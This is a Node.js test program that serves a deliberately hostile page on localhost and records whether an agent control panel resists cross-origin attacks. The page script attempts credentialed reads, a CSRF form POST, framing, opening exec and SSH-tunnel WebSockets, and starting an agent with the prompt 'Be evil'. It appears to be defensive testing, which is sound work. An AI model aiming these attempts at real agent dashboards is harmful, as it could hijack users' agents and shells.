// A program whose page tries to act as whoever looks at it. What came of it stands
// in the page, and what it was sent at /seen.
import { createServer } from 'node:http'

const page = `<!doctype html><title>Hostile</title><pre id="found"></pre><script type="module">
const { panel, agent, other } = Object.fromEntries(new URLSearchParams(location.search))
const found = {}
const attempt = async (name, act) => {
  try { found[name] = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 8000, 'nothing came'))]) }
  catch (fault) { found[name] = 'refused: ' + (fault?.name ?? fault) }
}
const socket = (url, protocol) => new Promise((yes, no) => {
  const ws = new WebSocket(url, protocol)
  ws.onopen = () => yes('open')
  ws.onerror = () => no('no socket')
})
const read = async (url, init) => { const r = await fetch(url, init); return r.type + ' ' + r.status + ' ' + (await r.text()) }
const with_ = { credentials: 'include' }
document.cookie = panel.replace(/.*:/, 'errand_') + '=mine; domain=localhost; path=/'
await attempt('cookies', async () => document.cookie)
await attempt('opener', async () => String(window.opener))
await attempt('me', () => read(panel + '/v1/me', with_))
await attempt('me, unread', () => read(panel + '/v1/me', { ...with_, mode: 'no-cors' }))
await attempt('start', () => read(panel + '/v1/agents', { ...with_, mode: 'no-cors', method: 'POST', body: JSON.stringify({ prompt: { text: 'Be evil' } }) }))
await attempt('ticket', () => read(panel + '/v1/agents/' + agent + '/ports/22/preview', { ...with_, method: 'POST' }))
await attempt('exec', () => socket(panel.replace('http', 'ws') + '/v1/agents/' + agent + '/exec', 'errand.exec.v1'))
await attempt('tunnel', () => socket(panel.replace('http', 'ws') + '/v1/agents/' + agent + '/ports/22/connect', 'errand.port.v1'))
await attempt('own host', () => read('/v1/me', with_))
await attempt('other preview', () => read(other, with_))
await attempt('other socket', () => socket(other.replace('http', 'ws')))
await attempt('frame', () => new Promise((yes) => {
  const frame = document.createElement('iframe')
  frame.onload = () => { try { yes('shows ' + frame.contentDocument.title) } catch (fault) { yes('refused: ' + fault.name) } }
  frame.src = panel
  document.body.append(frame)
}))
await attempt('form', () => new Promise((yes) => {
  const frame = document.createElement('iframe')
  frame.name = 'target'
  document.body.append(frame)
  const form = document.createElement('form')
  Object.assign(form, { action: panel + '/v1/agents/' + agent + '/archive', method: 'POST', target: 'target' })
  document.body.append(form)
  frame.onload = () => yes('sent')
  form.submit()
}))
await attempt('seen', async () => (await fetch('/seen')).text())
document.getElementById('found').textContent = JSON.stringify(found)
document.title = 'Tried'
</script>`

const heard = []
createServer((req, res) => {
  heard.push(JSON.stringify(req.headers))
  if (req.url.startsWith('/seen')) return res.end(heard.join('\n'))
  if (req.url.startsWith('/v1/')) return res.writeHead(404).end('the program itself')
  res.setHeader('Content-Type', 'text/html').end(page)
}).listen(4000, '127.0.0.1')
